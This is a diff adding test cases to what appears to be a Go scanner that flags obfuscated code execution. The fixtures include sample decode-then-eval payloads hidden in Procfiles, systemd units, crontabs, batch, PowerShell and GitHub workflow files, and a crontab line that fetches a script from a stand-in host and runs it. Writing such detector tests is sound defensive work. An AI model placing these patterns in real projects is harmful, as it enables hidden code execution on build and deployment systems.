@@ -117,8 +117,32 @@ var registry = []Rule{
 			{"x.py", "import binascii\nexec(binascii.a2b_base64(P))", 2, false},
 			// Decoded bytes written to a file are data.
 			{"build.gradle", "def b = P.decodeBase64()\nnew File('keystore.jks').bytes = b", 0, true},
+			// Files that hold a command a line in their own syntax: a
+			// Procfile's process, a systemd unit's Exec lines, a crontab's job.
+			{"Procfile", "web: bundle exec puma\nrelease: X=$(echo $P | openssl enc -d -a); eval \"$X\"", 0, false},
+			{"deploy/agent.service", "[Service]\nExecStartPre=/bin/sh -c 'echo $P | base64 -d > /tmp/x'\nExecStart=/bin/sh /tmp/x", 0, false},
+			{"etc/cron.d/sync", "SHELL=/bin/sh\n*/10 * * * * root X=$(echo $P | base64 -d); eval \"$X\"", 0, false},
+			// certutil's output file run by PowerShell -File, call or its bare name.
+			{"scripts/x.bat", "certutil -decode payload.txt run.ps1\npowershell -ExecutionPolicy Bypass -File run.ps1", 0, false},
+			{"scripts/x.cmd", "certutil -f -decode a.b64 a.cmd >nul\ncall a.cmd", 0, false},
+			{"scripts/x.cmd", "certutil -decode a.b64 a.exe\na.exe", 0, false},
+			{"scripts/x.cmd", "certutil -decode cert.b64 cert.pfx\ncertutil -importpfx cert.pfx", 0, true},
+			// PowerShell handing decoded text to another shell, and a
+			// workflow's pwsh and github-script steps, which are programs.
+			{"scripts/x.ps1", "$b = [Convert]::FromBase64String($env:P)\n$s = [Text.Encoding]::UTF8.GetString($b)\n& powershell -NoProfile -Command $s", 0, false},
+			{"scripts/x.ps1", "$s = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($env:P))\ncmd /c $s", 0, false},
+			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: pwsh\n        run: |\n          $c = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String($env:P))\n          Invoke-Expression $c", 0, false},
+			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/github-script@v7\n        with:\n          script: |\n            const s = Buffer.from(process.env.P, 'base64').toString()\n            require('child_process').execSync(s)", 0, false},
+			{".github/workflows/x.yml", "on: push\njobs:\n  b:\n    runs-on: ubuntu-latest\n    steps:\n      - shell: pwsh\n        run: |\n          $bytes = [Convert]::FromBase64String($env:SIGNING_CERT)\n          [IO.File]::WriteAllBytes(\"cert.pfx\", $bytes)\n          Import-PfxCertificate -FilePath cert.pfx -CertStoreLocation Cert:\\CurrentUser\\My", 0, true},
+			// A shell's argument list with -c, in any language.
+			{"noxfile.py", "import nox, base64\n@nox.session\ndef t(session):\n    session.run(\"sh\", \"-c\", base64.b64decode(P).decode(), external=True)", 0, false},
 		}},
 	{"download-and-run", KindDownload, High, "downloads code and runs it", WhyDownload, []Case{
+		// A unit's and a crontab's commands are shell; the usual ones run
+		// the installed program.
+		{"deploy/app.service", "[Service]\nExecStartPre=-/usr/bin/mkdir -p /var/lib/app\nExecStart=/usr/bin/app --config /etc/app.toml\nRestart=always", 0, true},
+		{"etc/cron.d/backup", "# m h dom mon dow user command\n30 2 * * * root /usr/local/bin/backup --quiet >/dev/null 2>&1\n@reboot root /usr/local/bin/warm-cache", 0, true},
+		{"ops/crontab", "0 * * * * curl -fsSL https://x.invalid/j.sh -o /tmp/j.sh; sh /tmp/j.sh", 0, false},
 		// PowerShell's call operator runs the program it names: fetched
 		// release data handed to a tool is its arguments; to a launcher
 		// (msiexec, a shell, an interpreter) it is what runs.
